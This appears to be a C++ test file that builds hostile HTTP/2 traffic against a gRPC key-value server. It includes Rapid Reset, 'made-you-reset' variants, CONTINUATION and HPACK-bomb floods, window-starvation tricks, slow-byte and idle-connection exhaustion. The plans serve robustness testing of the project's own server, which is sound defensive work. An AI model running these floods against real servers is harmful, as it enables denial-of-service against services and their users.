#include <functional>

#include "tests/hostile/attacks.h"
#include "tests/support/http2/wire.h"

namespace tenon::hostile {
namespace {

using namespace testing::http2;
using std::chrono::milliseconds;

constexpr const char* kRange = "/etcdserverpb.KV/Range";
const std::string kOpening = std::string(kPreface) + Settings();
const std::string kGetOne = std::string("\x0a\x06steady", 8);
const std::string kGetBig =
    "\x0a\x04"
    "big/"
    "\x12\x04"
    "big0";

const std::string& Block() {
  static const std::string block = Literal(GrpcHeaders(kRange));
  return block;
}
std::string Open(uint32_t stream, uint8_t flags = kEndHeaders) { return Frame(kHeaders, flags, stream, Block()); }
std::string Call(uint32_t stream, const std::string& request = kGetOne) { return GrpcCall(stream, kRange, request); }

std::string Times(size_t n, const std::string& bytes) {
  std::string out;
  for (size_t i = 0; i < n; ++i) out += bytes;
  return out;
}

// A batch of calls on new streams, each with `more` behind it.
std::function<std::string(Peer&)> Calls(std::string (*more)(uint32_t stream), bool half_closed = true) {
  return [more, half_closed](Peer& peer) {
    std::string out;
    for (int i = 0; i < 50; ++i, peer.stream += 2) {
      out += (half_closed ? Call(peer.stream) : Open(peer.stream)) + more(peer.stream);
    }
    return out;
  };
}

// The same bytes for ever.
std::function<std::string(Peer&)> Always(std::string bytes) {
  return [bytes = std::move(bytes)](Peer&) { return bytes; };
}

// `bytes` one at a time, the whole again when it has ended.
std::function<std::string(Peer&)> Trickle(std::string bytes) {
  return [bytes = std::move(bytes)](Peer& peer) { return std::string(1, bytes[peer.turn % bytes.size()]); };
}

Plan Flood(std::function<std::string(Peer&)> next, std::string opening = kOpening, bool read = true) {
  return {.connections = 4, .opening = std::move(opening), .next = std::move(next), .read = read};
}

Plan RapidReset() {
  return Flood(Calls([](uint32_t stream) { return Reset(stream); }));
}
Plan RapidResetOpen() {
  return Flood(Calls([](uint32_t stream) { return Reset(stream); }, false));
}
Plan WindowZero() {
  return Flood(Calls([](uint32_t stream) { return WindowUpdate(stream, 0); }));
}
Plan WindowOverflow() {
  return Flood(Calls([](uint32_t stream) { return Times(2, WindowUpdate(stream, INT32_MAX)); }, false));
}
Plan DataAfterEnd() {
  return Flood(Calls([](uint32_t stream) { return Frame(kData, kEndStream, stream, "late"); }));
}
Plan HeadersAfterEnd() {
  return Flood(Calls([](uint32_t stream) { return Open(stream); }));
}
Plan SelfDependency() {
  return Flood(Calls([](uint32_t stream) { return Frame(kPriority, kNone, stream, U32(stream) + "\x0f"); }, false));
}
Plan BadPriority() {
  return Flood(Calls([](uint32_t stream) { return Frame(kPriority, kNone, stream, "1234"); }, false));
}
Plan BadContentLength() {
  return Flood([](Peer& peer) {
    std::string out;
    for (int i = 0; i < 50; ++i, peer.stream += 2) {
      out += Frame(kHeaders, kEndHeaders, peer.stream, Block() + Literal("content-length", "3")) +
             Frame(kData, kNone, peer.stream, GrpcMessage(kGetOne));
    }
    return out;
  });
}

Plan Continuation() {
  const std::string more = Frame(kContinuation, kNone, 1, Literal("x-more", std::string(16000, 'y')));
  return Flood(Always(more), kOpening + Open(1, kNone));
}
Plan ContinuationEmpty() {
  return Flood(Always(Times(1000, Frame(kContinuation, kNone, 1))), kOpening + Open(1, kNone));
}
Plan ContinuationSmall() {
  return Flood(Always(Times(100, Frame(kContinuation, kNone, 1, Literal("a", "b")))), kOpening + Open(1, kNone));
}

Plan Pings() { return Flood(Always(Times(1000, Frame(kPing, kNone, 0, "8 bytes.")))); }
Plan PingsUnread() { return Flood(Always(Times(1000, Frame(kPing, kNone, 0, "8 bytes."))), kOpening, false); }
Plan SettingsFlood() { return Flood(Always(Times(1000, Settings()))); }
Plan SettingsUnread() { return Flood(Always(Times(1000, Settings({{kInitialWindowSize, 65535}}))), kOpening, false); }
Plan EmptyData() { return Flood(Always(Times(1000, Frame(kData, kNone, 1))), kOpening + Open(1)); }
Plan PaddedData() {
  return Flood(Always(Times(200, Frame(kData, kPadded, 1, std::string(1, '\xff') + std::string(255, '\0')))),
               kOpening + Open(1));
}
Plan Priorities() {
  return Flood([](Peer& peer) {
    std::string out;
    for (int i = 0; i < 1000; ++i) {
      const uint32_t stream = 1 + 2 * (peer.random() % 100'000);
      out += Frame(kPriority, kNone, stream, U32(peer.random() & INT32_MAX & ~1u) + "\x0f");
    }
    return out;
  });
}
Plan WindowUpdates() { return Flood(Always(Times(1000, WindowUpdate(0, 1)))); }
Plan UnknownFrames() { return Flood(Always(Times(1000, Frame(0xfb, 0xff, 0, "what?")))); }

// One entry of 4,000 bytes in HPACK's table, then a block of 15,000 references to it: 60 MB of headers in 15 KB.
Plan HpackBomb() {
  return Flood([](Peer& peer) {
    const std::string entry =
        Integer(0x40, 6, 0) + Integer(0, 7, 1) + "x" + Integer(0, 7, 4000) + std::string(4000, 'z');
    const std::string block =
        Block() + (peer.turn == 0 ? entry : "") + std::string(peer.turn == 0 ? 10'000 : 15'000, '\xbe');
    const std::string out = Frame(kHeaders, kEndHeaders | kEndStream, peer.stream, block);
    peer.stream += 2;
    return out;
  });
}
Plan ConnectionWindowOverflow() {
  Plan plan = Flood([](Peer& peer) { return peer.turn == 0 ? Times(3, WindowUpdate(0, INT32_MAX)) : ""; });
  plan.connections = 20;
  plan.hang_up = true;
  return plan;
}
// Answers of a megabyte through windows that open by a byte at a time.
Plan OneByteWindows() {
  std::string opening = std::string(kPreface) + Settings({{kInitialWindowSize, 1}});
  for (uint32_t stream = 1; stream < 20; stream += 2) opening += Call(stream, kGetBig);
  return {.connections = 20,
          .opening = opening,
          .next =
              [](Peer&) {
                std::string out;
                for (uint32_t stream = 1; stream < 20; stream += 2) out += WindowUpdate(stream, 1);
                return out;
              },
          .pace = milliseconds(5)};
}
Plan ZeroWindow() {
  std::string opening = std::string(kPreface) + Settings({{kInitialWindowSize, 0}});
  for (uint32_t stream = 1; stream < 20; stream += 2) opening += Call(stream, kGetBig);
  return {.connections = 20, .opening = opening, .next = nullptr};
}
// Nothing is read at all: the answers fill the sockets first.
Plan NeverRead() {
  std::string opening = std::string(kPreface) + Settings({{kInitialWindowSize, INT32_MAX}}) + WindowUpdate(0, 1 << 30);
  for (uint32_t stream = 1; stream < 20; stream += 2) opening += Call(stream, kGetBig);
  return {.connections = 20, .opening = opening, .next = nullptr, .read = false};
}
Plan SlowHeaders() {
  return {.connections = 500, .opening = kOpening, .next = Trickle(Open(1)), .pace = milliseconds(50)};
}
Plan SlowPreface() { return {.connections = 500, .opening = "", .next = Trickle(kOpening), .pace = milliseconds(50)}; }
Plan SlowBody() {
  const std::string body = Frame(kData, kNone, 1, "x");
  return {.connections = 500,
          .opening = kOpening + Open(1) + Frame(kData, kNone, 1, GrpcMessage("", 0, 1'000'000)),
          .next = Always(body),
          .pace = milliseconds(50)};
}
Plan Idle() { return {.connections = 20'000, .opening = kOpening, .next = nullptr}; }
Plan IdleSilent() { return {.connections = 5000, .opening = "", .next = nullptr}; }
Plan OversizeHeaders() {
  return Flood([](Peer& peer) {
    std::string out = Open(peer.stream, kNone);
    for (int i = 0; i < 8; ++i)
      out +=
          Frame(kContinuation, i == 7 ? kEndHeaders : kNone, peer.stream, Literal("x-large", std::string(16000, 'y')));
    peer.stream += 2;
    return out;
  });
}
Plan ManyFields() {
  return Flood([](Peer& peer) {
    const std::string out = Frame(kHeaders, kEndHeaders, peer.stream, Block() + Times(2000, Literal("a", "b")));
    peer.stream += 2;
    return out;
  });
}
// Streams that are opened and left, as many as the server takes.
Plan OpenStreams() {
  return Flood([](Peer& peer) {
    std::string out;
    for (int i = 0; i < 100; ++i, peer.stream += 2) out += Open(peer.stream);
    return peer.stream < 40'000 ? out : "";
  });
}
Plan Garbage() {
  Plan plan = Flood(
      [](Peer& peer) {
        if (peer.turn > 3) return std::string();
        std::string out = peer.random() % 2 == 0 ? kOpening : "";
        for (uint32_t n = peer.random() % 5000; n > 0; --n) out += static_cast<char>(peer.random());
        return out;
      },
      "");
  plan.connections = 20;
  plan.hang_up = true;
  return plan;
}
Plan RandomFrames() {
  Plan plan = Flood([](Peer& peer) {
    if (peer.turn > 20) return std::string();
    std::string payload;
    for (uint32_t n = peer.random() % 40; n > 0; --n) payload += static_cast<char>(peer.random());
    return Frame(static_cast<uint8_t>(peer.random() % 12), static_cast<uint8_t>(peer.random()), peer.random() % 4,
                 payload);
  });
  plan.connections = 20;
  plan.hang_up = true;
  return plan;
}
Plan HalfOpen() {
  return {.connections = 50,
          .opening = "",
          .next =
              [](Peer& peer) {
                if (peer.turn > 0) return std::string();
                const std::string whole = kOpening + Call(1);
                return whole.substr(0, 1 + peer.random() % (whole.size() - 1));
              },
          .pace = milliseconds(2),
          .hang_up = true};
}
// A connection for each call, which is gone before the answer.
Plan Churn() {
  return {.connections = 50,
          .opening = "",
          .next = [](Peer& peer) { return peer.turn > 0 ? std::string() : kOpening + Call(1) + Call(3) + Call(5); },
          .hang_up = true};
}

}  // namespace

std::vector<Attack> Http2Attacks() {
  return {
      {"rapid-reset", "calls that are reset at once (CVE-2023-44487)", RapidReset},
      {"rapid-reset-open", "streams that are reset before their request", RapidResetOpen},
      {"made-you-reset-window-zero", "the server is made to reset: WINDOW_UPDATE of 0 (CVE-2025-8671)", WindowZero},
      {"made-you-reset-window-overflow", "the same by a window over 2^31-1", WindowOverflow},
      {"made-you-reset-data", "the same by DATA after the end", DataAfterEnd},
      {"made-you-reset-headers", "the same by HEADERS after the end", HeadersAfterEnd},
      {"made-you-reset-priority", "the same by a stream that depends on itself", SelfDependency},
      {"made-you-reset-priority-size", "the same by a PRIORITY of four bytes", BadPriority},
      {"made-you-reset-content-length", "the same by more than content-length", BadContentLength},
      {"continuation", "a header block without end in large CONTINUATIONs", Continuation},
      {"continuation-empty", "the same in empty ones", ContinuationEmpty},
      {"continuation-small", "the same in small ones", ContinuationSmall},
      {"ping", "PINGs", Pings},
      {"ping-unread", "PINGs whose answers nobody reads", PingsUnread},
      {"settings", "SETTINGS", SettingsFlood},
      {"settings-unread", "SETTINGS whose answers nobody reads", SettingsUnread},
      {"empty-data", "DATA frames without data", EmptyData},
      {"padded-data", "DATA frames of padding", PaddedData},
      {"priority", "PRIORITY for streams that are not there", Priorities},
      {"window-update", "updates by a byte", WindowUpdates},
      {"unknown-frames", "frames of a type that nobody knows", UnknownFrames},
      {"hpack-bomb", "15 KB of references to a table entry of 4 KB", HpackBomb},
      {"window-overflow", "the connection's window over 2^31-1", ConnectionWindowOverflow},
      {"one-byte-windows", "200 answers of 1 MB a byte at a time", OneByteWindows},
      {"zero-window", "200 answers of 1 MB that are never let out", ZeroWindow},
      {"never-read", "200 answers of 1 MB that nobody reads", NeverRead},
      {"slow-preface", "500 prefaces a byte in 50 ms", SlowPreface},
      {"slow-headers", "500 header blocks a byte in 50 ms", SlowHeaders},
      {"slow-body", "500 messages a byte in 50 ms", SlowBody},
      {"idle", "20,000 connections that do nothing", Idle},
      {"idle-silent", "5,000 that do not even begin", IdleSilent},
      {"oversize-headers", "header lists of 128 KB", OversizeHeaders},
      {"many-fields", "header lists of 2,000 fields", ManyFields},
      {"open-streams", "streams that are opened and left", OpenStreams},
      {"garbage", "random bytes", Garbage},
      {"random-frames", "random frames", RandomFrames},
      {"half-open", "requests that break off anywhere", HalfOpen},
      {"churn", "a connection for three calls, gone before the answer", Churn},
  };
}

}  // namespace tenon::hostile
